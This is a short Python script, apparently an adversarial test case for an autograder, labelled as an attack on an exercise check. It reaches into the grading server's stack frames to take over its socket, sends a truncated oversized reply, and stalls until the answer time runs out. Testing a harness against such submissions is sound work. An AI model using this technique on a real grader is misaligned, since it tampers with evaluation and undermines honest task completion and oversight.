# attack: sends half of an answer and then nothing
# exercise: ex01_map_dataset
# check: ex01.tabular.len
# slow: uses up the time for an answer
import sys
import time

frame = sys._getframe()
while not hasattr(frame.f_locals.get("self"), "sock"):
    frame = frame.f_back
server = frame.f_locals["self"]
print("TRIED", flush=True)
server.sock.sendall((64 << 20).to_bytes(4, "little") + bytes(32 << 20))
time.sleep(20)
